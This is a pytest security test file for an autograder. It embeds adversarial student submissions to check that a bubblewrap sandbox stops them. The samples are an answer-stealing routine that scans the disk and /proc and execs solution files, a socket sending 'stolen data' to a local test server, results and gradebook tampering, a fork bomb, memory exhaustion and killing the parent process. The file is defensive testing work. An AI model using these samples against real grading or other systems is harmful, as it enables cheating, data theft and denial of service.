"""Adversarial submissions, each graded through the CLI with the bubblewrap sandbox on, and again
with the plain worker.  The sandbox stops every one; the plain worker's weaknesses are recorded as
expected failures (strict), so the README's security notes stay honest.

Each attack sits in chapter 4's `predict` (nothing else calls it) of an otherwise perfect notebook,
except the answer thief, which fills in the stubbed `propagate` with whatever it can find.
"""
from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from helpers import ROOT, sandbox_launcher
from tools import submissions

BIN = Path(sys.executable).parent
pytestmark = pytest.mark.skipif(not (ROOT / "release" / "ch04").exists(), reason="chapter 4 is not built")

CORRECT = "    Y_hat = 1 / (1 + np.exp(-(np.dot(W.T, X) + b)))\n    return (Y_hat > 0.5).astype(float)\n"


def grade(nb: dict, tmp_path: Path, mode: str, *extra) -> tuple[subprocess.CompletedProcess, dict | None]:
    if mode == "sandbox":
        sandbox_launcher()  # fails (or skips outside CI) when bubblewrap cannot run here
    path = submissions.write(nb, tmp_path / "ch04.ipynb")
    results = tmp_path / "results.json"
    flag = "--require-sandbox" if mode == "sandbox" else "--no-sandbox"
    env = dict(os.environ, PATH=f"{BIN}:{os.environ.get('PATH', '')}")
    out = subprocess.run([str(BIN / "autograder"), "grade", str(path), "--seed", "5", "--lang", "en", flag,
                          "--results", str(results), *extra], capture_output=True, text=True, env=env, timeout=600)
    data = json.loads(results.read_text()) if results.exists() and out.returncode == 0 else None
    return out, data


def function_score(results: dict, function: str) -> tuple[float, float]:
    tests = [t for t in results["tests"] if t["extra_data"]["function"] == function]
    return sum(t["score"] for t in tests), sum(t["max_score"] for t in tests)


def others_full(results: dict, *except_functions: str) -> bool:
    return all(t["score"] == t["max_score"] for t in results["tests"]
               if t["extra_data"]["function"] not in except_functions)


def with_predict(body: str) -> dict:
    nb = submissions.perfect("ch04")
    for cell in nb["cells"]:
        source = "".join(cell["source"])
        if cell["metadata"].get("nbgrader", {}).get("solution") and "def predict(" in source:
            cell["source"] = submissions._replace_function(source, "predict", "def predict(X, W, b):\n" + body)
            return nb
    raise KeyError("predict")


def plain_cannot(reason: str):
    """The plain worker cannot stop this attack: an expected failure there, a pass in the sandbox."""
    return [pytest.param("sandbox", id="sandbox"),
            pytest.param("plain", id="plain", marks=pytest.mark.xfail(strict=True, reason=reason))]


BOTH = [pytest.param("sandbox", id="sandbox"), pytest.param("plain", id="plain")]

THIEF = '''
def propagate(W, b, X, Y):
    """Looks for the answers on the disk, in the environment and in /proc, and runs what it finds."""
    import os
    wanted = ("solutions/ch04.py", "graders/ch04.py", "mistakes/ch04.py", "source/ch04/ch04.ipynb")
    roots = ["/"] + [v for v in os.environ.values() if v.startswith("/")]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for link in ("cwd", "root"):
                try:
                    roots.append(os.readlink(f"/proc/{pid}/{link}"))
                except OSError:
                    pass
    seen = set()
    for root in roots:
        for top, dirs, files in os.walk(root):
            if top.count("/") - root.count("/") > 4 or top.startswith(("/proc", "/sys", "/usr", "/dev")):
                dirs[:] = []
            for name in files:
                path = os.path.join(top, name)
                if path in seen or not any(path.endswith(w) for w in wanted):
                    continue
                seen.add(path)
                try:
                    text = open(path).read()
                except OSError:
                    continue
                if path.endswith("solutions/ch04.py"):
                    space = {}
                    exec(text, space)
                    return space["propagate"](W, b, X, Y)
    raise RuntimeError(f"nothing found in {len(seen)} files")
'''


@pytest.mark.parametrize("mode", plain_cannot("the plain worker can read solutions/ from the disk"))
def test_answer_thief_finds_nothing_and_scores_zero(tmp_path, mode):
    nb = submissions.stub("ch04")
    nb["cells"].append({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": THIEF})
    out, results = grade(nb, tmp_path, mode)
    assert results is not None, out.stderr
    assert function_score(results, "propagate")[0] == 0


@pytest.mark.parametrize("mode", plain_cannot("the plain worker shares the host's network"))
def test_socket_to_a_loopback_server_is_refused(tmp_path, mode):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    connections = []

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                connections.append(conn.recv(100))
                conn.close()
            except OSError:
                continue
    stop = threading.Event()
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    port = server.getsockname()[1]
    body = (f"    import socket\n    try:\n        s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
            f"        s.sendall(b'stolen data')\n        s.close()\n    except OSError:\n        pass\n" + CORRECT)
    try:
        out, results = grade(with_predict(body), tmp_path, mode)
    finally:
        stop.set()
        thread.join(2)
        server.close()
    assert results is not None and others_full(results), out.stderr
    assert connections == []


@pytest.mark.parametrize("mode", plain_cannot("the plain worker can write wherever the grader can"))
def test_fake_results_and_gradebook_scribbles_change_nothing(tmp_path, mode):
    gradebook = tmp_path / "gradebook.db"
    gradebook.write_bytes(b"SQLite format 3\x00" + bytes(4096))
    before = hashlib.sha256(gradebook.read_bytes()).hexdigest()
    results_path = tmp_path / "results.json"
    body = (f"    for path, text in (({str(results_path)!r}, '{{\"score\": 999, \"max_score\": 1, \"tests\": []}}'),\n"
            f"                       ({str(gradebook)!r}, 'scribbled')):\n"
            f"        try:\n            with open(path, 'a') as f:\n                f.write(text)\n"
            f"        except OSError:\n            pass\n" + CORRECT)
    out, results = grade(with_predict(body), tmp_path, mode)
    assert results is not None, out.stderr
    assert results["score"] == results["max_score"] < 999
    assert hashlib.sha256(gradebook.read_bytes()).hexdigest() == before


FORKER = """    import os, time
    forked = 0
    for _ in range(200):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        forked += 1
    if forked > 64:                 # the process limit did not hold
        return np.zeros((1, 1))
""" + CORRECT


@pytest.mark.parametrize("mode", plain_cannot("the plain worker runs as root, whom RLIMIT_NPROC does not bind"))
def test_fork_bomb_is_bounded(tmp_path, mode):
    out, results = grade(with_predict(FORKER), tmp_path, mode)
    assert results is not None and others_full(results, "predict"), out.stderr
    score, max_score = function_score(results, "predict")
    assert score == max_score  # the limit held: it could not fork more than 64 processes


@pytest.mark.parametrize("mode", BOTH)
def test_memory_without_end_fails_that_function_only(tmp_path, mode):
    body = "    chunks = []\n    while True:\n        chunks.append(np.ones(10**7))\n"
    out, results = grade(with_predict(body), tmp_path, mode)
    assert results is not None and others_full(results, "predict"), out.stderr
    assert function_score(results, "predict")[0] == 0
    assert {t["extra_data"]["diagnosis"] for t in results["tests"] if t["extra_data"]["function"] == "predict"} == {"memory"}


@pytest.mark.parametrize("mode", BOTH)
def test_printing_without_end_fails_that_function_only(tmp_path, mode):
    body = "    while True:\n        print('spam' * 1000)\n"
    out, results = grade(with_predict(body), tmp_path, mode)
    assert results is not None and others_full(results, "predict"), out.stderr
    assert function_score(results, "predict")[0] == 0


@pytest.mark.parametrize("mode", plain_cannot("the plain worker's parent is the grader, in the same PID namespace"))
def test_killing_the_parent_process_does_not_stop_grading(tmp_path, mode):
    body = "    import os, signal\n    try:\n        os.kill(os.getppid(), signal.SIGKILL)\n    except OSError:\n        pass\n" + CORRECT
    out, results = grade(with_predict(body), tmp_path, mode)
    assert out.returncode == 0 and results is not None
    assert others_full(results)


def test_the_sandbox_view_holds_only_what_the_worker_needs():
    from autograder.sandbox import SANDBOX_PACKAGE_ROOT
    launcher = sandbox_launcher()
    cmd = launcher.command(["/bin/true"], "/tmp/x", 123456)
    bound = {cmd[i + 2] for i, a in enumerate(cmd) if a in ("--ro-bind", "--bind")}
    assert not any(str(ROOT / d) in b for b in bound for d in ("solutions", "source", "tests", "release"))
    assert not any(b.startswith(str(ROOT / "autograder" / "graders")) for b in bound)
    assert all(b.startswith((str(ROOT / ".venv"), "/usr", "/etc", "/dev", SANDBOX_PACKAGE_ROOT, "/tmp/x", sys.base_prefix))
               or b == str(ROOT / ".venv") for b in bound), bound
